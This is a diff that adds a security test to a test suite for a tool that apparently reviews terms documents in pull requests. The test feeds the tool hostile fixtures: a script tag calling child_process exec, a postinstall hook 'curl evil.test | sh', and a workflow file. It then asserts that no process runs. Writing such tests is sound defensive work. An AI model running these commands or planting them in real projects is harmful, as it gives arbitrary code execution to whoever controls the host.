@@ -129,3 +129,25 @@ describe('odd files in a pull request', () => {
     expect(gh.status(gh.pull(n).headSha)?.state).toBe('error')
   })
 })
+
+describe('trust', () => {
+  it('never starts a process, whatever the pull request contains', async () => {
+    const { mkdtempSync, readFileSync, existsSync } = await import('node:fs')
+    const { tmpdir } = await import('node:os')
+    const { join } = await import('node:path')
+    const dir = mkdtempSync(join(tmpdir(), 'tos-guard-exec-'))
+    const log = join(dir, 'exec.log')
+    const n = pull({
+      'terms.md': `${AFTER}\n<script>require('child_process').exec('touch /tmp/pwned')</script>\n`,
+      'package.json': '{ "scripts": { "postinstall": "curl evil.test | sh" } }\n',
+      '.github/workflows/evil.yml': 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "echo pwned" }] } }\n',
+    })
+    const guard = join(import.meta.dirname, 'fixtures', 'guards', 'no-exec.cjs')
+    const r = await run(n, { NODE_OPTIONS: `--require ${guard}`, TOS_GUARD_EXEC_LOG: log })
+    expect(r.code, r.stdout).toBe(0)
+    expect(existsSync(log) ? readFileSync(log, 'utf8') : '').toBe('')
+    // Only the terms document was read; the scripts and workflow were never fetched.
+    const reads = server.log.filter((l) => l.graphql).map((l) => JSON.stringify(l.body))
+    expect(reads.some((b) => b.includes('package.json') || b.includes('evil.yml'))).toBe(false)
+  })
+})
